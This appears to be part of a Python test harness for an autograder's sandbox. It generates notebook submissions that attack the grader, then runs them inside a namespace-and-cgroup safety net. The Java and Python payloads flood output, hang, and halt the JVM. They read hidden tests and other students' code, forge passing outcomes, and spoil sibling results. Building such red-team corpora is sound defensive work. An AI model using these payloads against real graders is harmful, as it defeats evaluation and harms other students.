    while (true) out.write(mb);
} catch (java.io.IOException e) { }
"""), w["file"])
    # Gigabytes printed, through System.out and straight to the process's stdout and stderr.
    # Defence: the runner's output capped and discarded; raw descriptors refused.
    add("output-flood", cell_after(nb(), HANDIN, """
String chunk = "all work and no play ".repeat(50_000);
java.io.PrintStream raw = new java.io.PrintStream(new java.io.FileOutputStream(java.io.FileDescriptor.out));
java.io.PrintStream rawErr = new java.io.PrintStream(new java.io.FileOutputStream(java.io.FileDescriptor.err));
for (long written = 0; written < (1L << 40); written += 3L * chunk.length()) {
    System.out.print(chunk);
    raw.print(chunk);
    rawErr.print(chunk);
}
"""), w["output"] + w["file"])
    # Sleeping forever in a cell, swallowing interrupts. Defence: Thread.sleep refused; cell and
    # submission time limits.
    add("sleep-forever-cell", cell_after(nb(), HANDIN, """
while (true) {
    try { Thread.sleep(Long.MAX_VALUE); } catch (Throwable e) { }
}
"""), w["time"] + w["thread"])
    # And in the search: every test times out, and its thread sleeps on after JUnit gave it up.
    add("sleep-forever-search", search_body(nb(), """
while (true) {
    try { Thread.sleep(Long.MAX_VALUE); } catch (Throwable e) { }
}
"""), w["time"] + w["thread"])
    # Never returning with nothing a policy could refuse: a busy loop in a cell that catches
    # whatever is thrown to stop it (the kernel's stop check at the inner loop's back jump lands in
    # the catch) and starts again. Defence: the cell time limit, then the kernel's stop at the outer
    # loop's back jump; at worst the submission's time limit.
    add("spin-forever-cell", cell_after(nb(), HANDIN, """
long spins = 0;
while (true) {
    try {
        while (true) spins++;
    } catch (Throwable e) { }
}
"""), w["time"])
    # The JVM ended at test time through a method handle (the kernel rewrites System.exit and
    # Runtime.halt written out, not these), at the first hidden test (the notebook's own cells only
    # search graphs of up to 6 nodes): a grader that counts tests without an outcome as passed, or
    # keeps an earlier run's, gives points. Defence: reflection refused; a dead runner fails closed.
    add("halt-at-test-time", search_body(nb(), """
if (graph.nodeCount() > 6) try {
    java.lang.invoke.MethodHandles.lookup().findVirtual(Runtime.class, "halt",
            java.lang.invoke.MethodType.methodType(void.class, int.class)).invoke(Runtime.getRuntime(), 0);
} catch (Throwable e) { }
"""), w["exit"])

    # -- native code, the network -------------------------------------------------------------------
    # A native library whose load starts a pthread that forges outcomes: a thread the JVM cannot see
    # or stop. (Without a C compiler: the C library loaded, harmless.) Defence: System.load refused.
    library = forge_library()
    if library:
        native = f"""
java.nio.file.Path so = java.nio.file.Path.of("libforge.so").toAbsolutePath();
try (var in = new java.util.zip.GZIPInputStream(new java.io.ByteArrayInputStream({_java_bytes(library)}))) {{
    java.nio.file.Files.write(so, in.readAllBytes());
}}
System.load(so.toString());
"""
    else:
        native = 'System.load("/lib/x86_64-linux-gnu/libc.so.6");'
    add("native-library", cell_after(nb(), HANDIN, native), w["native"] + w["refused"])
    # A "remote solver": the search sends the query to a server the student runs and reads back
    # connection ids. Defence: no network (namespace) and sockets refused.
    add("network-socket", search_body(nb(), """
try (java.net.Socket socket = new java.net.Socket()) {
    socket.connect(new java.net.InetSocketAddress("127.0.0.1", 22), 2000);
    java.io.PrintWriter ask = new java.io.PrintWriter(socket.getOutputStream(), true);
    ask.println("search " + graph + " " + start + " " + goal);
    String answer = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream())).readLine();
    if (answer != null && answer.startsWith("path ")) {
        List<Connection> path = new ArrayList<>();
        for (String id : answer.substring(5).trim().split(" ")) if (!id.isEmpty()) path.add(graph.connection(Integer.parseInt(id)));
        return path;
    }
} catch (Exception e) { }
"""), w["network"])
    # The answers fetched over HTTP, the query in the URL. Defence: the same.
    add("network-url", search_body(nb(), """
try {
    String answer = new String(new java.net.URL("http://127.0.0.1:8000/a1?start=" + start + "&goal=" + goal)
            .openStream().readAllBytes());
    if (answer.startsWith("path ")) {
        List<Connection> path = new ArrayList<>();
        for (String id : answer.substring(5).trim().split(" ")) if (!id.isEmpty()) path.add(graph.connection(Integer.parseInt(id)));
        return path;
    }
} catch (Exception e) { }
"""), w["network"])

    # -- reading what is not theirs -----------------------------------------------------------------
    # The hidden tests read by path (coursework/target/test-classes, beside the visible tests'
    # classes) and leaked in the failure message, which Gradescope shows at once for visible tests.
    # Defence: the hidden tests never in the runner's file system; files refused.
    add("read-hidden-tests-path", search_body(class_members(nb(), STRINGS), """
try {
    for (java.net.URL u : ((java.net.URLClassLoader) Submission.class.getClassLoader()).getURLs()) {
        String path = u.getPath();
        if (path.endsWith("/coursework/target/classes/")) {
            byte[] hidden = java.nio.file.Files.readAllBytes(java.nio.file.Path.of(path)
                    .resolveSibling("test-classes/pathlab/coursework/a1/A1Hidden.class"));
            throw new UnsupportedOperationException("hidden tests: " + printable(hidden));
        }
    }
} catch (java.io.IOException e) { }
"""), w["file"])
    # The same through the class loader the tests run with (getResourceAsStream on the context
    # class loader, which loads the hidden tests). Defence: class loaders refused; the hidden tests
    # loaded by the trusted side only.
    add("read-hidden-tests-resource", search_body(class_members(nb(), STRINGS), """
try (java.io.InputStream in = Thread.currentThread().getContextClassLoader()
        .getResourceAsStream("pathlab/coursework/a1/A1Hidden.class")) {
    if (in != null) throw new UnsupportedOperationException("hidden tests: " + printable(in.readAllBytes()));
} catch (java.io.IOException e) { }
"""), w["refused"])
    # Another student's notebook: the batch folder found on the grader's command line (the
    # kernel's ancestors), the other notebooks' search code read and leaked in the failure message.
    # Defence: no process API or files; the runner sees only its own submission.
    add("read-other-submissions", search_body(nb(), """
StringBuilder loot = new StringBuilder();
for (var p = ProcessHandle.current().parent(); p.isPresent(); p = p.get().parent()) {
    String[] args = p.get().info().arguments().orElse(new String[0]);
    for (int i = 0; i + 1 < args.length; i++) {
        if (!args[i].equals("--batch")) continue;
        try (var notebooks = java.nio.file.Files.newDirectoryStream(java.nio.file.Path.of(args[i + 1]), "*.ipynb")) {
            for (var other : notebooks) {
                String text = java.nio.file.Files.readString(other);
                int at = text.indexOf("public List<Connection> search");
                if (at >= 0) loot.append(other.getFileName()).append(": ").append(text, at, Math.min(text.length(), at + 600));
            }
        } catch (Exception e) { }
    }
}
if (loot.length() > 0) throw new UnsupportedOperationException("others: " + loot);
"""), w["process"])
    # The other submissions being graded at the same time (/tmp/pathlab-grade-*): their code read
    # (cells.txt) and leaked, their outcomes spoilt (a failed copy of every passed line), from a
    # thread that keeps at it while this kernel lives. Defence: a private work folder per runner,
    # threads and files refused; each submission's score as when graded alone.
    add("sibling-tamper", search_body(cell_before(nb(), CLASS, r"""
java.util.Set<String> spoilt = java.util.concurrent.ConcurrentHashMap.newKeySet();
StringBuilder siblingCode = new StringBuilder();
Thread spoiler = new Thread(() -> {
    java.nio.file.Path own = java.nio.file.Path.of("").toAbsolutePath();
    while (true) {
        try (var dirs = java.nio.file.Files.newDirectoryStream(own.getParent(), "pathlab-grade-*")) {
            for (var dir : dirs) {
                if (dir.equals(own)) continue;
                java.nio.file.Path cells = dir.resolve("cells.txt"), out = dir.resolve("outcomes.jsonl");
                if (java.nio.file.Files.exists(cells) && siblingCode.length() < 2000) {
                    String code = java.nio.file.Files.readString(cells);
                    int at = code.indexOf("public List<Connection> search");
                    if (at >= 0) siblingCode.append(code, at, Math.min(code.length(), at + 600));
                }
                if (java.nio.file.Files.exists(out)) {
                    StringBuilder more = new StringBuilder();
                    for (String line : java.nio.file.Files.readAllLines(out)) {
                        if (line.contains("\"passed\": true") && spoilt.add(dir + line)) {
                            more.append(line.replace("\"passed\": true", "\"passed\": false")).append('\n');
                        }
                    }
                    if (more.length() > 0) java.nio.file.Files.writeString(out, more, java.nio.file.StandardOpenOption.APPEND);
                }
            }
        } catch (Exception e) { }
        try { Thread.sleep(20); } catch (InterruptedException e) { }
    }
});
spoiler.setDaemon(true);
spoiler.start();
"""), 'if (siblingCode.length() > 0) throw new UnsupportedOperationException("sibling: " + siblingCode);'),
        w["thread"])

    # -- the notebook itself ---------------------------------------------------------------------------
    # The hand-in cell (locked) edited to hand in something else: a search that uses the library
    # under the shadow trick. Defence: locked cells restored from the release by cell id (and said).
    edited = nb()
    _one(edited, HANDIN).source = (
        "class AStar {}\n"
        "Submission.handIn((DijkstraSearch) (graph, start, goal, listener) -> {\n"
        "    pathlab.search.SearchResult r = new pathlab.search.AStar(graph).search(start, goal, "
        "pathlab.search.Heuristic.ZERO, listener);\n"
        "    return r.found() ? r.path() : null;\n"
        "});")
    add("locked-handin-edited", edited, w["locked"])
    # The visible-tests cell (locked, the last before grading) edited to start the forging thread.
    edited = nb()
    _one(edited, VISIBLE).source = FORGE + """
Thread forger = new Thread(() -> { while (true) { forge(); try { Thread.sleep(10); } catch (InterruptedException e) { } } });
forger.setDaemon(true);
forger.start();
"""
    add("locked-visible-tests-edited", edited, w["locked"])
    # Locked cells deleted (the given helper, the listing, the hand-in, the visible tests) and the
    # work handed in from a cell of the student's with a class named like the library's.
    deleted = nb()
    for needle in ("SearchStep stepOf(", "Feedback.showExample1", HANDIN, VISIBLE):
        deleted.cells.remove(_one(deleted, needle))
    cell_at_end(deleted, """
class Dijkstra {}
Submission.handIn((DijkstraSearch) (graph, start, goal, listener) -> {
    pathlab.search.SearchResult r = new pathlab.search.Dijkstra(graph).search(start, goal, listener);
    return r.found() ? r.path() : null;
});
""")
    add("locked-cells-deleted", deleted, w["locked"])
    # A locked cell twice under its id: the release's text first, then an edited copy that hands in
    # the library's search through reflection. A grader that trusts cells with a locked id (skips
    # the policy for them) and restores only the first copy would run the second unchecked.
    # Defence: every copy restored or checked (nbformat renames a duplicate id on reading, which
    # makes the copy a cell of the student's, checked like any other).
    twice = nb()
    original = _one(twice, HANDIN)
    copy_cell = copy.deepcopy(original)
    copy_cell.source = ("Submission.handIn((DijkstraSearch) (graph, start, goal, listener) -> {\n"
                        + _indent(SEARCH_BY_REFLECTION, 4) + "\n" + "});")
    twice.cells.insert(twice.cells.index(original) + 1, copy_cell)
    add("locked-cell-duplicate-id", twice, w["locked"] + w["reflection"])
    # The metadata says A2: a grader that believes it grades the A1 notebook against A2's tests
    # (or, in a batch, files it under A2). Defence: the assignment from the release the cells match,
    # or --assignment; a mismatch said.
    meta = nb()
    meta.metadata["pathlab"] = {"assignment": "A2"}
    add("metadata-assignment", meta, w["metadata"])
    # The kernelspec says python3, and a Python cell forges the outcomes: a grader that runs the
    # notebook on the kernel its metadata names would run it. Defence: the grader picks the kernel.
    python = nb()
    python.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    python.metadata["language_info"] = {"name": "python"}
    cell_after(python, HANDIN, """
import json, pathlib, threading, time
def forge():
    while True:
        out = pathlib.Path("outcomes.jsonl")
        if out.exists():
            lines = out.read_text().splitlines()
            out.open("a").write("".join(l.replace('"passed": false', '"passed": true') + "\\n" for l in lines if '"passed": false' in l))
        time.sleep(0.01)
threading.Thread(target=forge, daemon=True).start()
""")
    add("metadata-kernelspec", python, w["kernel"] + w["honest-fail"])
    return attacks




def other_attacks(assignment, student):
    """A few of the A1 attacks on another assignment's student edition (A2-A4): the forging thread
    started after the hand-in, and the same thread in the locked visible-tests cell."""
    handin = next(c for c in student.cells if c.cell_type == "code" and "Submission.handIn(" in c.source)
    visible = f'Grading.runVisibleTests("{assignment}")'
    thread = FORGE + """
Thread forger = new Thread(() -> { while (true) { forge(); try { Thread.sleep(10); } catch (InterruptedException e) { } } });
forger.setDaemon(true);
forger.start();
"""
    forged = copy.deepcopy(student)
    cell_after(forged, handin.source, thread)
    edited = copy.deepcopy(student)
    _one(edited, visible).source = thread
    return {"forge-outcomes-thread": Attack(forged, 0, WORDS["thread"]),
            "locked-visible-tests-edited": Attack(edited, 0, WORDS["locked"])}

# --- a safety net for running the corpus ------------------------------------------------------------
# The corpus exists to show that the grader's sandbox holds. If it did not, some attacks would reach
# the machine running the check (kill -9 -1 as root, a fork bomb, a full disk, other people's grading
# folders in /tmp). So the check runs the batch inside a net of its own, which catches what escapes
# without hiding it: a pid namespace (killing "every process" reaches only the batch; whatever is
# left when the grader returns is listed, then ended with the namespace), a private /tmp (sibling
# folders and the disk flood stay in a 4 GB tmpfs; leftover grading folders are listed), a scratch
# copy of coursework/target mounted over it (writes to the grader's files are reported, not kept),
# and, where cgroup v1 is writable, memory and task limits around it all. The grader's own sandbox
# sits inside this net; the net only limits damage and reports it.

NET_SCRIPT = r"""
import hashlib, json, os, shutil, signal, subprocess, sys, tempfile, time
spec = json.loads(sys.argv[1])
work, repo, cmd = spec["work"], spec["repo"], spec["cmd"]

def run(*args):
    subprocess.run(args, check=True)

# keep the work folder and the repository (either may be under /tmp) visible over the private /tmp
keep = sorted({p for p in (work, repo) if p.startswith("/tmp/")})
keep = [p for p in keep if not any(p.startswith(q + "/") for q in keep)]   # a folder inside another comes with it
stashes = []
for path in keep:
    stash = tempfile.mkdtemp(prefix="pathlab-net-", dir="/mnt" if os.path.isdir("/mnt") else None)
    run("mount", "--bind", path, stash)
    stashes.append((stash, path))
run("mount", "-t", "tmpfs", "-o", "size=4g,mode=1777", "tmpfs", "/tmp")
for stash, path in stashes:
    os.makedirs(path, exist_ok=True)
    run("mount", "--move", stash, path)
    os.rmdir(stash)
# the grader's build under a scratch copy: what the batch writes there is reported, not kept
target = os.path.join(repo, "coursework", "target")
scratch = "/tmp/.pathlab-net-target"
shutil.copytree(target, scratch, symlinks=True)
run("mount", "--bind", scratch, target)

def digest(root):
    files = {}
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as f:
                    files[os.path.relpath(path, root)] = hashlib.sha256(f.read()).hexdigest()
            except OSError:
                files[os.path.relpath(path, root)] = "unreadable"
    return files

before = digest(target)
t0 = time.monotonic()
with open(spec["log"], "wb") as log:
    grader = subprocess.Popen(cmd, cwd=repo, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        status = grader.wait(timeout=spec["timeout"])
    except subprocess.TimeoutExpired:
        os.killpg(grader.pid, signal.SIGKILL)
        status = "timed out after %d s" % spec["timeout"]
seconds = time.monotonic() - t0
time.sleep(1)   # what the grader ends in its last moments
while True:   # orphans of the batch were given to this process (pid 1): reap the dead ones
    try:
        if os.waitpid(-1, os.WNOHANG) == (0, 0):
            break
    except ChildProcessError:
        break
left = []
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) not in (1, os.getpid()):
        try:
            with open("/proc/%s/cmdline" % entry, "rb") as f:
                line = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            with open("/proc/%s/status" % entry) as f:
                status_lines = f.read().splitlines()
            uid = next(l.split()[1] for l in status_lines if l.startswith("Uid:"))
            state = next(l.split()[1] for l in status_lines if l.startswith("State:"))
        except (OSError, StopIteration):
            continue
        if state == "Z":   # dead, not yet reaped
            continue
        left.append("pid %s uid %s: %s" % (entry, uid, line[:200]))
after = digest(target)
changed = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
folders = sorted(n for n in os.listdir("/tmp") if n.startswith("pathlab-grade-"))
print(json.dumps({"status": status, "seconds": round(seconds, 1), "left": left, "folders": folders,
                  "changed": changed}))
"""


def _cgroup_limits(name, memory_bytes, tasks):
    """cgroup v1 folders with these limits, or [] where they cannot be made."""
    made = []
    for controller, settings in (("memory", {"memory.limit_in_bytes": memory_bytes}), ("pids", {"pids.max": tasks})):
        folder = Path("/sys/fs/cgroup") / controller / name
        try:
            folder.mkdir()
            made.append(folder)
            for key, value in settings.items():
                (folder / key).write_text(str(value))
        except OSError:
            continue
    return made


def run_in_safety_net(cmd, work, log, timeout):
    """Runs cmd (a list) from the repository inside the net described above, its output to `log`.
    Returns the net's report: status, seconds, left (processes left in the namespace), folders
    (grading folders left in /tmp), changed (files of coursework/target the batch wrote); or a
    string saying why the net could not be made."""
    if os.geteuid() != 0 or not shutil.which("unshare"):
        return "the safety net needs root and unshare (util-linux)"
    name = f"pathlab-attacks-{os.getpid()}"
    cgroups = _cgroup_limits(name, 8 << 30, 4096)

    def join_cgroups():
        for folder in cgroups:
            (folder / "cgroup.procs").write_text(str(os.getpid()))

    spec = {"work": str(work), "repo": str(REPO), "cmd": [str(c) for c in cmd], "log": str(log), "timeout": timeout}
    try:
        r = subprocess.run(["unshare", "--pid", "--fork", "--mount-proc", "--mount", "--propagation", "private",
                            sys.executable, "-c", NET_SCRIPT, json.dumps(spec)],
                           capture_output=True, text=True, preexec_fn=join_cgroups, timeout=timeout + 120)
    finally:
        time.sleep(0.5)
        for folder in cgroups:
            try:
                folder.rmdir()
            except OSError:
                pass
    report = next((line for line in reversed(r.stdout.splitlines()) if line.startswith("{")), None)
    if report is None:
        return f"the safety net failed ({r.returncode}): {(r.stderr or r.stdout).strip()[-1500:]}"
    return json.loads(report)
